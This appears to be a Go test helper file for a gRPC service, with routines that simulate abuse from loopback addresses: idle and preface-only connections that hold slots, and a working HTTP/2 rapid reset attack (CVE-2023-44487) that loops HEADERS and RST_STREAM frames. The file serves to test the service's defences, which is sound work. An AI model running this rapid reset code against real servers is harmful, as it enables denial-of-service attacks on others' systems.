package main

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"net"
	"os"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	healthpb "google.golang.org/grpc/health/grpc_health_v1"
)

// Attackers of the gRPC port, over raw TCP and real gRPC, for the abuse
// tests: connections that squat slots, and HTTP/2 rapid reset.

// attackerIP is the loopback source address of attacker i: 127.0.0.2 and
// up, so that a test can keep its legitimate caller on 127.0.0.1.
func attackerIP(i int) net.IP { return net.IPv4(127, 0, 0, byte(2+i)) }

// dialFrom dials addr over TCP from the source address ip.
func dialFrom(ctx context.Context, ip net.IP, addr string) (net.Conn, error) {
	d := net.Dialer{LocalAddr: &net.TCPAddr{IP: ip}, Timeout: 5 * time.Second}
	return d.DialContext(ctx, "tcp", addr)
}

// dialGRPCFrom returns a gRPC client connection to addr from the source
// address ip, closed when tb ends.
func dialGRPCFrom(tb testing.TB, ip net.IP, addr string) *grpc.ClientConn {
	tb.Helper()
	conn, err := grpc.NewClient(addr,
		grpc.WithTransportCredentials(insecure.NewCredentials()),
		grpc.WithContextDialer(func(ctx context.Context, a string) (net.Conn, error) { return dialFrom(ctx, ip, a) }),
	)
	if err != nil {
		tb.Fatalf("grpc.NewClient(%q): %v", addr, err)
	}
	tb.Cleanup(func() { conn.Close() })
	return conn
}

// prefaceConn opens a raw TCP connection from ip that sends the HTTP/2
// client preface and an empty SETTINGS frame, then nothing; what the server
// sends is read and dropped. It is closed when tb ends.
func prefaceConn(ctx context.Context, tb testing.TB, ip net.IP, addr string) net.Conn {
	tb.Helper()
	c, err := dialFrom(ctx, ip, addr)
	if err != nil {
		tb.Fatalf("dial %s from %v: %v", addr, ip, err)
	}
	var wg sync.WaitGroup
	tb.Cleanup(func() {
		c.Close()
		wg.Wait()
	})
	if _, err := c.Write([]byte(http2.ClientPreface)); err != nil {
		tb.Fatalf("write preface: %v", err)
	}
	if err := http2.NewFramer(c, nil).WriteSettings(); err != nil {
		tb.Fatalf("write SETTINGS: %v", err)
	}
	wg.Go(func() { drain(c) })
	return c
}

// drain reads c until it fails.
func drain(c net.Conn) {
	buf := make([]byte, 4096)
	for {
		if _, err := c.Read(buf); err != nil {
			return
		}
	}
}

// silentConn opens a raw TCP connection from ip that sends nothing; it is
// closed when tb ends.
func silentConn(ctx context.Context, tb testing.TB, ip net.IP, addr string) net.Conn {
	tb.Helper()
	c, err := dialFrom(ctx, ip, addr)
	if err != nil {
		tb.Fatalf("dial %s from %v: %v", addr, ip, err)
	}
	tb.Cleanup(func() { c.Close() })
	return c
}

// resetResult is what one rapid-reset connection did.
type resetResult struct {
	streams  int           // HEADERS+RST_STREAM pairs written
	closed   bool          // fetchd closed the connection
	closedIn time.Duration // after this long, if closed
}

// rapidReset runs the HTTP/2 rapid reset attack (CVE-2023-44487) on one
// raw connection from ip for at most d: HEADERS for a Fetch stream, then
// RST_STREAM at once, in a loop, with md (name, value pairs) as extra
// headers. It stops when d has passed or fetchd closes the connection.
func rapidReset(ctx context.Context, ip net.IP, addr string, d time.Duration, md ...string) (resetResult, error) {
	c, err := dialFrom(ctx, ip, addr)
	if err != nil {
		return resetResult{}, err
	}
	defer c.Close()
	start := time.Now()
	// The writes stop at d; the reads a little later, so that a close by
	// fetchd is told apart from the end of the attack by its error.
	c.SetWriteDeadline(start.Add(d))
	c.SetReadDeadline(start.Add(d + 300*time.Millisecond))
	type readEnd struct {
		err error
		at  time.Duration
	}
	readDone := make(chan readEnd, 1)
	go func() { // received from below, before rapidReset returns
		fr := http2.NewFramer(nil, c)
		for {
			if _, err := fr.ReadFrame(); err != nil {
				readDone <- readEnd{err, time.Since(start)}
				return
			}
		}
	}()
	bw := bufio.NewWriterSize(c, 32<<10)
	fr := http2.NewFramer(bw, nil)
	var res resetResult
	if _, err := bw.WriteString(http2.ClientPreface); err != nil {
		return res, err
	}
	if err := fr.WriteSettings(); err != nil {
		return res, err
	}
	var hbuf bytes.Buffer
	enc := hpack.NewEncoder(&hbuf)
	fields := []string{
		":method", "POST", ":scheme", "http", ":path", "/fetch.v1.FetchService/Fetch", ":authority", addr,
		"content-type", "application/grpc", "te", "trailers",
	}
	fields = append(fields, md...)
	var werr error
	for id := uint32(1); ctx.Err() == nil && time.Since(start) < d; id += 2 {
		hbuf.Reset()
		for i := 0; i < len(fields); i += 2 {
			enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
		}
		if werr = fr.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: hbuf.Bytes(), EndHeaders: true}); werr != nil {
			break
		}
		if werr = fr.WriteRSTStream(id, http2.ErrCodeCancel); werr != nil {
			break
		}
		res.streams++
		if res.streams%32 == 0 {
			if werr = bw.Flush(); werr != nil {
				break
			}
		}
	}
	if werr == nil {
		bw.Flush()
	}
	end := <-readDone
	if ne, ok := end.err.(net.Error); !ok || !ne.Timeout() {
		res.closed, res.closedIn = true, end.at
	}
	return res, nil
}

// healthLatencies checks health on conn every 20ms until ctx is done and
// returns each call's latency; a failed call counts as 1 hour.
func healthLatencies(ctx context.Context, conn *grpc.ClientConn) []time.Duration {
	hc := healthpb.NewHealthClient(conn)
	var lat []time.Duration
	for ctx.Err() == nil && len(lat) < 10000 {
		start := time.Now()
		cctx, cancel := context.WithTimeout(ctx, 2*time.Second)
		_, err := hc.Check(cctx, &healthpb.HealthCheckRequest{})
		cancel()
		if ctx.Err() != nil {
			break
		}
		if err != nil {
			lat = append(lat, time.Hour)
		} else {
			lat = append(lat, time.Since(start))
		}
		select {
		case <-ctx.Done():
		case <-time.After(20 * time.Millisecond):
		}
	}
	return lat
}

// procStatus returns a field of /proc/pid/status in KiB (VmHWM, VmRSS).
func procStatus(tb testing.TB, pid int, field string) int64 {
	tb.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		tb.Fatalf("read status of pid %d: %v", pid, err)
	}
	for line := range strings.Lines(string(b)) {
		if rest, ok := strings.CutPrefix(line, field+":"); ok {
			n, err := strconv.ParseInt(strings.TrimSuffix(strings.TrimSpace(rest), " kB"), 10, 64)
			if err != nil {
				tb.Fatalf("%s %q: %v", field, rest, err)
			}
			return n
		}
	}
	tb.Fatalf("/proc/%d/status has no %s", pid, field)
	return 0
}
